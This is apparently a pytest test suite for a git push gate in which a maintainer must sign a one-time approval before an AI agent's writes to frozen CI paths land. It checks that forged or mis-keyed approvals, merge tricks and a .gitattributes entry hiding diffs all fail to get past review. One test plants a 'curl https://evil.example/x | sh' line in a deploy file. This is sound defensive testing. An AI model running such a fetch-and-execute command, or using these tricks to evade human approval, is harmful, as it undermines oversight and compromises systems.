"""Maintainer approvals through real pushes: an agent's frozen write is rejected, a maintainer
approves exactly that ref update with `gate approve`, the same push is then accepted once,
and nothing else rides on the approval.

Here `gate approve` itself (what it shows, its own refusals, git config, SSH keys), the client's
pre-push hook, the listing, pushes racing for one approval, and one real push of each family;
every rule of every family (updates the approval does not cover, keys, who pushes records, expiry,
spent uses) runs in process in `tests/engine/test_approval_attacks.py`."""

from __future__ import annotations

import json
import subprocess
from dataclasses import dataclass
from pathlib import Path

import pytest
from support.cli import cli
from support.formats import RepoFormat
from support.gitutil import AGENT, HUMAN, git
from support.keygen import needs_ssh_keygen, ssh_key
from support.server import APPROVALS_POLICY as POLICY
from support.server import Server
from support.verdicts import refused

ALICE = {"REMOTE_USER": "alice"}
AGENT_PUSH = {"REMOTE_USER": "agent-7"}


@dataclass
class Lab:
    server: Server
    maint: Path  # the maintainer's clone
    keys: dict[str, Path]
    base: str

    def agent_commit(self, path: str = "ci/deploy.yml", text: str = "deploy: agent\n") -> str:
        self.server.work.write(path, text)
        return self.server.work.commit(f"agent writes {path}", identity=AGENT)

    def hint_command(self, out: subprocess.CompletedProcess[str]) -> list[str]:
        line = next(ln for ln in out.stderr.splitlines() if "can approve this write" in ln)
        import shlex

        return shlex.split(line[line.index("gate approve"):])[1:]

    def approve(self, args: list[str], *extra: str) -> subprocess.CompletedProcess[str]:
        """The maintainer fetches the agent's commits and runs the printed command."""
        git(self.maint, "fetch", "-q", str(self.server.work.path), "+HEAD:refs/agent/head")
        return cli(*args, "--approver", "alice", "--key", str(self.keys["approval"]), "--yes", *extra,
                    cwd=self.maint, env=ALICE)


def _key(tmp: Path, kid: str, purpose: str) -> tuple[Path, str]:
    out = cli("keys", "generate", "--alg", "ed25519", "--id", kid, "--purpose", purpose, "--out", str(tmp / kid))
    assert out.returncode == 0, out.stderr
    return tmp / kid, out.stdout


@pytest.fixture
def lab(tmp_path: Path) -> Lab:
    return _lab(tmp_path, POLICY)


def _lab(tmp_path: Path, policy: str) -> Lab:
    keys: dict[str, Path] = {}
    ring = ""
    for kid, purpose in (("approval", "approval"), ("runner", "receipt")):
        keys[kid], entry = _key(tmp_path, kid, purpose)
        ring += entry
    (tmp_path / "s").mkdir()
    s = Server(tmp_path / "s", policy=policy, keyring=ring)
    s.work.write("README", "hello\n")
    s.work.write("ci/deploy.yml", "deploy: true\n")
    base = s.work.commit("base", identity=HUMAN)
    assert s.push("main").returncode == 0
    maint = tmp_path / "maint"
    git(tmp_path, "clone", "-q", s.url, str(maint))
    return Lab(s, maint, keys, base)


@pytest.fixture
def fmt_lab(repo_format: RepoFormat, tmp_path: Path) -> Lab:
    """`lab` in one of the four repository formats (support.formats)."""
    return _lab(tmp_path, POLICY)


def test_reject_approve_accept_once(fmt_lab: Lab) -> None:
    """In every repository format: an approval of a SHA-256 repository's update names 64-digit ids."""
    lab = fmt_lab
    s = lab.server
    head = lab.agent_commit()
    out = s.push("main", pusher_env=AGENT_PUSH)
    assert refused(out, "GATE-FROZEN-PATH"), out.stderr
    args = lab.hint_command(out)
    assert args[:2] == ["approve", "--repository-id"] and "ci/deploy.yml" in args and head in args
    got = lab.approve(args)
    assert got.returncode == 0, got.stdout + got.stderr
    assert "agent writes ci/deploy.yml" in got.stdout and "+deploy: agent" in got.stdout  # what was reviewed
    out = s.push("main", pusher_env=AGENT_PUSH)
    assert out.returncode == 0, out.stderr
    record = s.audit()[-1]
    assert record["decision"] == "accept"
    [used] = record["approvals"]  # type: ignore[misc]
    assert used["approver"] == "alice" and used["paths"] == ["ci/deploy.yml"] and used["ref"] == "refs/heads/main"
    assert s.ref(f"refs/gate/approval-uses/{used['id']}") == s.ref(f"refs/gate/approvals/{used['id']}")
    listed = cli("approvals", "list", "--repo", str(s.bare))
    assert listed.returncode == 0 and f"{used['id'][:16]} used by alice refs/heads/main" in listed.stdout


def test_the_maintainers_next_command_runs_as_printed_after_the_one_time_setup(lab: Lab) -> None:
    """The gate-json's `next` failed until gate.approver was set, a missing key was reported only
    after the maintainer had read the diff and typed y, and the approved push landed with no line
    saying so. Now the rejection says the one-time set-up beside the command; `gate approve` checks
    who approves and with which key before it shows or asks anything; and the push that uses the
    approval says so, and whose it was."""
    import json
    import shlex

    s = lab.server
    head = lab.agent_commit()
    out = s.push("main", pusher_env=AGENT_PUSH)
    assert refused(out, "GATE-FROZEN-PATH"), out.stderr
    [doc] = [json.loads(ln.split("gate-json: ", 1)[1]) for ln in out.stderr.splitlines() if "gate-json: " in ln]
    setup = doc["setup"]
    assert setup == ("git config gate.approver NAME && git config gate.approvalSshKey ~/.ssh/KEY "
                     "(or: git config gate.approvalKey KEYFILE)")
    assert f"hint: before a first gate approve, once per clone: {setup}; and fetch the agent's commits into it" \
        in out.stderr, out.stderr
    command = shlex.split(doc["next"])
    assert command[:2] == ["gate", "approve"] and head in command
    git(lab.maint, "fetch", "-q", str(s.work.path), "+HEAD:refs/agent/head")  # the agent's commits

    def run_as_printed() -> subprocess.CompletedProcess[str]:
        return cli(*command[1:], cwd=lab.maint, env=ALICE, input="y\n")

    # nothing set up: refused before anything is shown or asked, naming both settings
    got = run_as_printed()
    assert got.returncode != 0 and got.stdout == "", got.stdout
    assert "gate approve needs your name and your key, set once per clone: git config gate.approver NAME" \
        in got.stderr and "git config gate.approvalSshKey" in got.stderr, got.stderr
    # a name and no key: the same, before the diff (it was asked for only after the maintainer said y)
    git(lab.maint, "config", "gate.approver", "alice")
    got = run_as_printed()
    assert got.returncode != 0 and got.stdout == "" and "gate approve needs your key" in got.stderr, got.stdout
    # the runner's receipt key is no approval key: refused before the diff too
    git(lab.maint, "config", "gate.approvalKey", str(lab.keys["runner"]))
    got = run_as_printed()
    assert got.returncode != 0 and got.stdout == "" and "GATE-SEAL-KEY-PURPOSE" in got.stderr, got.stderr
    # set up: the command runs as printed, shows the change, asks, approves
    git(lab.maint, "config", "gate.approvalKey", str(lab.keys["approval"]))
    got = run_as_printed()
    assert got.returncode == 0, got.stdout + got.stderr
    assert "+deploy: agent" in got.stdout and "as alice?" in got.stdout
    out = s.push("main", pusher_env=AGENT_PUSH)
    assert out.returncode == 0, out.stderr
    [used] = s.audit()[-1]["approvals"]  # type: ignore[misc]
    assert (f"remote: gate: approved by alice, approval {used['id'][:16]}: ci/deploy.yml on refs/heads/main "
            "(used: it serves once)") in out.stderr, out.stderr


def test_an_approval_covers_only_its_paths(lab: Lab) -> None:
    s = lab.server
    s.work.write("ci/a.yml", "a\n")
    s.work.write("ci/b.yml", "b\n")
    s.work.commit("agent writes two", identity=AGENT)
    args = lab.hint_command(s.push("main", pusher_env=AGENT_PUSH))
    i = args.index("ci/b.yml")
    del args[i - 1:i + 1]  # the maintainer approves ci/a.yml only
    assert lab.approve(args).returncode == 0
    out = s.push("main", pusher_env=AGENT_PUSH)
    assert refused(out, "GATE-FROZEN-PATH") and "path=ci/b.yml" in out.stderr and "path=ci/a.yml" not in out.stderr
    assert not any(r.startswith("refs/gate/approval-uses/") for r in s.refs())  # a rejected push spends nothing


def test_a_key_of_another_purpose_or_a_revoked_key_never_serves(lab: Lab, tmp_path: Path) -> None:
    s = lab.server
    lab.agent_commit()
    args = lab.hint_command(s.push("main", pusher_env=AGENT_PUSH))
    git(lab.maint, "fetch", "-q", str(s.work.path), "+HEAD:refs/agent/head")
    # the runner's receipt key (where agents run) cannot seal an approval: refused before anything is written
    out = cli(*args, "--approver", "alice", "--key", str(lab.keys["runner"]), "--yes", cwd=lab.maint)
    assert out.returncode != 0 and "GATE-SEAL-KEY-PURPOSE" in out.stderr, out.stdout + out.stderr
    # a hand-made one sealed with it is refused by the server
    forged = _forged_approval(lab, args, lab.keys["runner"])
    out = git(lab.maint, "push", "--porcelain", "origin", forged, check=False, env=ALICE)
    assert refused(out, "GATE-SEAL-KEY-PURPOSE"), out.stderr
    git(lab.maint, "update-ref", "-d", forged)
    # a good approval, then its key revoked: the agent's push is refused again
    assert lab.approve(args, "--no-push").returncode == 0
    ref = next(r for r in git(lab.maint, "for-each-ref", "--format=%(refname)", "refs/gate/approvals/").stdout.split())
    assert git(lab.maint, "push", "-q", "origin", ref, check=False, env=ALICE).returncode == 0
    ring = (s.root / "keyring.toml").read_text()
    start = ring.index('id = "approval"')
    ring = ring[:start] + ring[start:].replace("revoked = false", "revoked = true", 1)
    (tmp_path / "revoked.toml").write_text(ring)
    s.install("--keyring", str(tmp_path / "revoked.toml"))
    out = s.push("main", pusher_env=AGENT_PUSH)
    assert refused(out, "GATE-SEAL-KEY-REVOKED") and refused(out, "GATE-FROZEN-PATH"), out.stderr


def _forged_approval(lab: Lab, args: list[str], key: Path) -> str:
    """An approval sealed with `key` whatever its purpose, written with the package's own parts."""
    from gatecore.adapters.config import load_keyfile
    from gatecore.adapters.gitrepo import GitRepo
    from gatecore.records import approvals
    from gatecore.signing import envelope
    from gatecore.signing.keys import SigningKey
    from gatecore.signing.seal import sign

    def flag(name: str) -> str:
        return args[args.index(name) + 1]

    import time

    now = int(time.time())
    a = approvals.Approval(flag("--repository-id"), flag("--ref"), flag("--old"), flag("--new"), ("ci/deploy.yml",),
                           "alice", now, now + 3600)
    k = load_keyfile(key)
    env = sign(SigningKey(k.id, k.algorithm, "approval", k.material), envelope.PAYLOAD_APPROVAL, a.payload())
    repo = GitRepo.at(lab.maint)
    tree = repo.write_tree({approvals.RECORD_FILE: envelope.encode(env)})
    commit = repo.write_commit(tree, [], "forged\n", "x", "x@example.com", now)
    ref = f"refs/gate/approvals/{a.id}"
    repo.set_ref(ref, commit, None)
    return ref


def test_only_an_approver_pushes_an_approval(lab: Lab) -> None:
    s = lab.server
    lab.agent_commit()
    args = lab.hint_command(s.push("main", pusher_env=AGENT_PUSH))
    assert lab.approve(args, "--no-push").returncode == 0
    ref = next(r for r in git(lab.maint, "for-each-ref", "--format=%(refname)", "refs/gate/approvals/").stdout.split())
    for who in ("agent-7", "bob"):
        out = git(lab.maint, "push", "--porcelain", "origin", ref, check=False, env={"REMOTE_USER": who})
        assert refused(out, "GATE-APPROVAL-APPROVER"), out.stderr
    assert s.ref(ref) is None
    assert git(lab.maint, "push", "-q", "origin", ref, check=False, env={"REMOTE_USER": "release-bot"}).returncode == 0


@needs_ssh_keygen
def test_an_ssh_signed_approval_by_an_approver_serves(lab: Lab, tmp_path: Path) -> None:
    s = lab.server
    key = tmp_path / "alice_ssh"
    pub = ssh_key(key)
    signers = tmp_path / "allowed_signers"
    signers.write_text(f'alice namespaces="git,gate-approval" {pub}\n')
    s.install("--allowed-signers", str(signers))
    lab.agent_commit()
    args = lab.hint_command(s.push("main", pusher_env=AGENT_PUSH))
    git(lab.maint, "fetch", "-q", str(s.work.path), "+HEAD:refs/agent/head")
    git(lab.maint, "config", "gate.approver", "alice")
    git(lab.maint, "config", "gate.approvalSshKey", str(key))
    out = cli(*args, "--yes", cwd=lab.maint, env=ALICE)  # the printed command, as printed
    assert out.returncode == 0, out.stdout + out.stderr
    assert s.push("main", pusher_env=AGENT_PUSH).returncode == 0


def test_the_pre_push_hook_shows_the_command_then_approved(lab: Lab) -> None:
    """Same engine on the client: before approval it prints the exact command; once the approval
    is fetched it says approved and passes; the server agrees both times."""
    import os
    import sys

    from support.gitutil import git_env

    s, w = lab.server, lab.server.work
    w.write(".gate/policy.toml", POLICY)
    w.write(".gate/keyring.toml", (s.root / "keyring.toml").read_text())  # public keys: what clients verify with
    w.commit("client policy", identity=HUMAN)
    assert s.push("main").returncode == 0
    remote = w.head()
    lab.agent_commit()
    line = f"refs/heads/main {w.head()} refs/heads/main {remote}\n"
    git(w.path, "fetch", "-q", "origin")

    def client() -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, "-m", "hooks.frozen_push", "--repository-id", "demo/repo", "origin",
                               s.url], input=line, cwd=w.path, env={**git_env(HUMAN), "PATH": os.environ["PATH"]},
                              capture_output=True, text=True)

    out = client()
    assert out.returncode == 1 and "GATE-FROZEN-PATH" in out.stderr, out.stderr
    hint = next(ln for ln in out.stderr.splitlines() if "can approve this write" in ln)
    server_out = s.push("main", pusher_env=AGENT_PUSH)
    assert hint in server_out.stderr.replace("remote: ", "")  # the very command the server prints
    assert lab.approve(lab.hint_command(server_out)).returncode == 0
    git(w.path, "fetch", "-q", "origin", "+refs/gate/*:refs/gate/*")
    out = client()
    assert out.returncode == 0 and "approved by alice" in out.stderr, out.stderr
    assert s.push("main", pusher_env=AGENT_PUSH).returncode == 0


def test_the_review_shows_escaped_paths_and_merges(lab: Lab) -> None:
    """What `gate approve` shows is everything the approval will permit: paths with spaces or
    non-ASCII bytes (printed escaped by the hint), and a path set by a merge commit."""
    s = lab.server
    w = s.work
    w.write("ci/evil file.yml", "EVIL-SPACE\n")
    w.write("ci/dé.yml", "EVIL-ACCENT\n")
    w.commit("agent writes odd names", identity=AGENT)
    git(w.path, "checkout", "-q", "-b", "side", lab.base)
    w.write("README", "human side\n")
    w.commit("human side", identity=HUMAN)
    git(w.path, "checkout", "-q", "main")
    git(w.path, "merge", "-q", "--no-commit", "side", identity=AGENT)
    w.write("ci/deploy.yml", "EVIL-MERGE\n")
    git(w.path, "add", "-A")
    git(w.path, "commit", "-q", "-m", "agent merges side", identity=AGENT)
    out = s.push("main", pusher_env=AGENT_PUSH)
    assert refused(out, "GATE-FROZEN-PATH"), out.stderr
    args = lab.hint_command(out)
    assert "ci/evil\\x20file.yml" in args and "ci/d\\xc3\\xa9.yml" in args and "ci/deploy.yml" in args
    got = lab.approve(args)
    assert got.returncode == 0, got.stdout + got.stderr
    for content in ("EVIL-SPACE", "EVIL-ACCENT", "EVIL-MERGE"):
        assert f"+{content}" in got.stdout, got.stdout
    out = s.push("main", pusher_env=AGENT_PUSH)
    assert out.returncode == 0, out.stderr
    [used] = s.audit()[-1]["approvals"]  # type: ignore[misc]
    assert sorted(used["paths"]) == sorted(["ci/evil\\x20file.yml", "ci/d\\xc3\\xa9.yml", "ci/deploy.yml"])


def test_the_listing_verifies_on_the_server_and_says_so_elsewhere(lab: Lab) -> None:
    """`gate approvals list` on the server's repository checks each seal as the hook would: a
    record sealed with a key of another purpose is INVALID, never "unused"; in a clone, where
    the server's keys are not, the listing says it did not verify."""
    import dataclasses

    from gatecore.adapters.config import load_keyfile
    from gatecore.records import approvals
    from gatecore.signing import envelope, seal

    s = lab.server
    lab.agent_commit()
    assert lab.approve(lab.hint_command(s.push("main", pusher_env=AGENT_PUSH))).returncode == 0
    listed = cli("approvals", "list", "--repo", str(s.bare))
    assert listed.returncode == 0 and " unused by alice " in listed.stdout and "unverified" not in listed.stdout
    listed = cli("approvals", "list", "--repo", str(lab.maint))
    assert "not verified" in listed.stdout and "unused (unverified) by alice" in listed.stdout, listed.stdout
    # the same record sealed with the runner's receipt key, put on the server by hand
    aid = next(r for r in s.refs() if r.startswith("refs/gate/approvals/")).rsplit("/", 1)[1]
    record = git(s.bare, "show", f"refs/gate/approvals/{aid}:{approvals.RECORD_FILE}").stdout.encode()
    payload = envelope.parse(record).payload
    runner = dataclasses.replace(load_keyfile(lab.keys["runner"]), purpose="approval")  # what seal.sign checks
    bad = envelope.encode(seal.sign(runner, envelope.PAYLOAD_APPROVAL, payload))
    blob = git(s.bare, "hash-object", "-w", "--stdin", input=bad).stdout.strip()
    tree = git(s.bare, "mktree", input=f"100644 blob {blob}\t{approvals.RECORD_FILE}\n".encode()).stdout.strip()
    commit = git(s.bare, "commit-tree", tree, "-m", "forged").stdout.strip()
    git(s.bare, "update-ref", f"refs/gate/approvals/{aid}", commit)
    listed = cli("approvals", "list", "--repo", str(s.bare))
    assert f"{aid[:16]} INVALID (GATE-SEAL-KEY-PURPOSE" in listed.stdout, listed.stdout


def test_pushes_racing_for_one_approval_land_once(lab: Lab) -> None:
    """Four pushes of the approved update at once: exactly one lands, whatever the timing (the use
    record is created, never overwritten, and git locks the ref)."""
    from support.gitutil import git_env

    s = lab.server
    lab.agent_commit()
    assert lab.approve(lab.hint_command(s.push("main", pusher_env=AGENT_PUSH))).returncode == 0
    procs = [subprocess.Popen(["git", "push", "--porcelain", s.url, "main"], cwd=s.work.path,
                              env={**git_env(HUMAN), **AGENT_PUSH}, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
             for _ in range(4)]
    codes = [p.wait() for p in procs]
    for p in procs:
        assert p.stdout is not None and p.stderr is not None
        p.stdout.close()
        p.stderr.close()
    assert codes.count(0) == 1, codes
    assert len([d for d in s.audit() if d["approvals"]]) == 1


def test_the_review_shows_a_merge_that_keeps_a_stale_frozen_file(lab: Lab) -> None:
    """`merge -s ours` over a human's fix to a frozen file writes the old file back: no commit's
    diff shows it, so the review ends with the net change of the ref at the approved paths."""
    s = lab.server
    w = s.work
    w.write("ci/deploy.yml", "deploy: FIXED\n")
    w.commit("human fixes the deploy", identity=HUMAN)
    assert s.push("main").returncode == 0
    fixed = w.head()
    git(w.path, "checkout", "-q", "-b", "agent", lab.base)
    w.write("src/feature.py", "x\n")
    w.commit("agent feature", identity=AGENT)
    git(w.path, "merge", "-q", "-s", "ours", "-m", "agent merges main", fixed, identity=AGENT)
    out = s.push("HEAD:main", pusher_env=AGENT_PUSH)
    assert refused(out, "GATE-FROZEN-PATH") and "path=ci/deploy.yml" in out.stderr, out.stderr
    got = lab.approve(lab.hint_command(out))
    assert got.returncode == 0, got.stdout + got.stderr
    net = got.stdout[got.stdout.index("the net change of refs/heads/main"):]
    assert "-deploy: FIXED" in net and "+deploy: true" in net, got.stdout


def test_the_review_shows_the_frozen_file_whatever_the_repositorys_attributes_say(lab: Lab) -> None:
    """An agent first lands a `.gitattributes` (not a frozen path) saying `ci/** -diff`; the
    maintainer's clone has it. The agent's write of ci/deploy.yml is refused, and `gate approve`
    showed the maintainer `Binary files a/ci/deploy.yml and b/ci/deploy.yml differ` (git log -p
    and git diff read the repository's attributes): now the lines themselves (issue 44's sibling)."""
    s = lab.server
    s.work.write(".gitattributes", "ci/** -diff\n")
    s.work.commit("agent tidies attributes", identity=AGENT)
    assert s.push("main", pusher_env=AGENT_PUSH).returncode == 0
    git(lab.maint, "pull", "-q", "--ff-only")
    assert (lab.maint / ".gitattributes").exists()
    lab.agent_commit(text="deploy: agent\nrun: curl https://evil.example/x | sh\n")
    out = s.push("main", pusher_env=AGENT_PUSH)
    assert refused(out, "GATE-FROZEN-PATH"), out.stderr
    got = lab.approve(lab.hint_command(out))
    assert got.returncode == 0, got.stdout + got.stderr
    assert "Binary files" not in got.stdout, got.stdout
    assert "+run: curl https://evil.example/x | sh" in got.stdout
    net = got.stdout[got.stdout.index("the net change of refs/heads/main"):]
    assert "-deploy: true\n+deploy: agent\n+run: curl https://evil.example/x | sh" in net, net


def test_the_printed_command_approves_a_branch_whose_name_is_not_ascii(lab: Lab) -> None:
    """The hint's line is ASCII, other bytes escaped: a ref `refs/heads/café` was printed as
    `'refs/heads/caf\\xc3\\xa9'`, literal backslashes to a shell, and the approval it made never
    matched the update. Such a word is printed as bash's `$'...'` now, the same bytes in every
    shell that reads it (bash, zsh), and the command approves the push as printed."""
    import os
    import shutil
    import sys

    s = lab.server
    branch = "refs/heads/caf\u00e9"
    assert s.push(f"main:{branch}").returncode == 0  # by a human
    lab.agent_commit()
    out = s.push(f"HEAD:{branch}", pusher_env=AGENT_PUSH)
    assert refused(out, "GATE-FROZEN-PATH"), out.stderr
    line = next(ln for ln in out.stderr.splitlines() if "can approve this write" in ln)
    printed = line[line.index("gate approve"):]
    assert printed.isascii() and "--ref $'refs/heads/caf\\xc3\\xa9'" in printed, printed
    doc = json.loads(next(ln for ln in out.stderr.splitlines() if "gate-json: " in ln).split("gate-json: ", 1)[1])
    assert doc["next"] == printed.rstrip(), doc  # what a bot passes on: the same command (it had none)
    bash = shutil.which("bash")
    assert bash is not None
    git(lab.maint, "fetch", "-q", str(s.work.path), "+HEAD:refs/agent/head")
    run = subprocess.run([bash, "-c", f"{printed} --approver alice --key {lab.keys['approval']} --yes"],
                         cwd=lab.maint, capture_output=True, text=True,
                         env={**os.environ, **ALICE, "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}"})
    assert run.returncode == 0, run.stdout + run.stderr
    out = s.push(f"HEAD:{branch}", pusher_env=AGENT_PUSH)
    assert out.returncode == 0, out.stderr
